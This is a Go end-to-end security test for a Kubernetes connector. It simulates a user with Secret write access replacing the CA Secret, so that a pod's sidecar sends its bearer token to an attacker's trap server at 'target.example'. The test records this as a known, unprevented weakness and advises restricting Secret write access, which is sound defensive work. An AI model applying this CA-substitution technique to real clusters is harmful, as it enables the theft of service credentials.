package attacks

import (
	"net"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kube-connector/kube-connector/internal/testkit"
	"github.com/kube-connector/kube-connector/pkg/apis/connectors/v1alpha1"
	"github.com/kube-connector/kube-connector/pkg/connector"
	"github.com/kube-connector/kube-connector/test/e2e/bed"
)

var _ = declare(attack{
	name: "authority_ca", actor: authority, outcome: notPrevented, alone: true,
	tries: "has the sidecar trust certificates of his own, and answers for the address of the target",
	what:  "who writes the CA's Secret says who the target is: he is trusted like the owner of the token. Keep write access to Secrets to those who own them",
	run: func(t *testing.T, s *scene) {
		const name = "target.example"
		certificate, ca := testkit.Certificate(t, name, time.Now().Add(time.Hour))
		trap := bed.NewTrapAs(t, "0", certificate, bed.Silent)
		_, port, err := net.SplitHostPort(strings.TrimPrefix(trap.Address, "https://"))
		require.NoError(t, err)
		s.connect(t, "by-name", "https://"+name+":"+port)
		pod := s.pod()
		pod.Annotations[v1alpha1.AnnotationConnectors] = "by-name"
		pod.Spec.HostAliases = []corev1.HostAlias{{IP: bed.Clusters.MachineIP(), Hostnames: []string{name}}}
		pod = start(t, pod)
		mallory := s.person(t, []rbacv1.PolicyRule{may("", "secrets", "update", "create", "delete")})
		err = mallory.Update(t.Context(), &corev1.Secret{
			ObjectMeta: metav1.ObjectMeta{Name: "k8s-ca", Namespace: s.namespace}, StringData: map[string]string{connector.SecretKeyCA: ca},
		})
		require.NoError(t, err)
		var seen struct{ output string }
		bed.Eventually(t, func() bool {
			seen.output, _ = bed.Execute(t, pod, "app", "", "kubectl", "get", "--raw", "/api")
			return strings.Contains(trap.Received(), "Authorization: Bearer "+s.token)
		}, "the server of the attacker is not asked, but %v", &seen)
	},
})
